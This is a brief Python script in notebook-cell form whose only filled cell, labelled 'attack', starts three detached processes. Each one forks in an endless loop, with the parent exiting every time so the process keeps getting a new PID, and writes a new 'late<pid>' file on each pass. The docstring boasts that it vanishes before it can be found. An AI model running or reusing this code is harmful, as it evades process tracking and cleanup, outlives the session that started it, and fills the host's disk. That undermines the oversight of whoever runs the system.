# %% setup
# %% forward
# %% backward
# %% attack
import os
import time
def relay():
    """Forks itself on and on, and is gone each time before it can be found."""
    while True:
        if os.fork():
            os._exit(0)
        with open(f"late{os.getpid()}", "w") as file:
            file.write("x" * 100)
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        try:
            relay()
        finally:
            os._exit(0)
time.sleep(0.05)
